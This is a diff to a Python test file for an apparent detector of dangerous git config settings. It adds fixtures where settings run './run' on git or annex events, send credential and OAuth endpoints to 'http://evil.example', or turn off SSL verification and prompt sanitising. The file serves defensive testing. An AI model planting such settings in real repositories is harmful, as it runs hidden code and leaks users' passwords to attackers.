@@ -56,6 +56,9 @@ PLAIN = '[core]\n\tbare = false\n\teditor = vim\n[remote "origin"]\n\turl = http
         ('[tig "bind"]\n\tgeneric = q !./run', "tig.bind.generic"),
         ("[secrets]\n\tproviders = ./run", "secrets.providers"),
         ('[gitflow "path"]\n\thooks = ./hooks', "gitflow.path.hooks"),
+        ("[annex]\n\tfreezecontent-command = ./run", "annex.freezecontent-command"),
+        ('[remote "a"]\n\tannex-start-command = ./run', "remote.a.annex-start-command"),
+        ("[later]\n\teditor = ./run", "later.editor"),
         ('[remote "origin"]\n\turl = my-helper+x::run', "remote.origin.url"),
     ],
 )
@@ -78,6 +81,8 @@ def test_a_setting_that_runs_a_program_is_seen(added: str, name: str) -> None:
         '[url "ssh://git@host.example/"]\n\tinsteadOf = https://host.example/',
         "[tig]\n\tshow-changes = yes",
         "[delta]\n\tnavigate = true",
+        "[color]\n\tpager = true",
+        "[annex]\n\tversion = 10",
         "[diff]\n\ttool = vimdiff\n[merge]\n\ttool = meld",
     ],
 )
@@ -104,6 +109,20 @@ def test_a_setting_that_runs_none_is_not_told(added: str) -> None:
             '[credential "https://host.example"]\n\toauthTokenEndpoint = http://evil.example',
             "credential.https://host.example.oauthTokenEndpoint",
         ),
+        (
+            '[credential "https://host.example"]\n\toauthTokenURL = http://evil.example',
+            "credential.https://host.example.oauthTokenURL",
+        ),
+        (
+            '[credential "https://host.example"]\n\toauthDeviceAuthURL = http://evil.example',
+            "credential.https://host.example.oauthDeviceAuthURL",
+        ),
+        ("[credential]\n\toauthAuthorizeEndpoint = http://evil.example", "credential.oauthAuthorizeEndpoint"),
+        ("[credential]\n\tcacheOptions = --socket=/p/s", "credential.cacheOptions"),
+        ("[credential]\n\tcredentialStore = plaintext", "credential.credentialStore"),
+        ("[credential]\n\tallowUnsafeRemotes = true", "credential.allowUnsafeRemotes"),
+        ("[credential]\n\tsanitizePrompt = false", "credential.sanitizePrompt"),
+        ("[imap]\n\tsslverify = false", "imap.sslverify"),
     ],
 )
 def test_a_setting_by_which_a_password_goes_elsewhere_is_seen(added: str, name: str) -> None:
@@ -119,6 +138,9 @@ def test_a_setting_by_which_a_password_goes_elsewhere_is_seen(added: str, name: 
         "[http]\n\tpostBuffer = 9",
         "[credential]\n\ttraceSecrets = false",
         "[credential]\n\tuseHttpPath = true",
+        "[credential]\n\tallowUnsafeRemotes = false",
+        "[credential]\n\tsanitizePrompt = true",
+        "[imap]\n\tsslverify = true",
     ],
 )
 def test_a_setting_that_keeps_passwords_is_not_told(added: str) -> None:
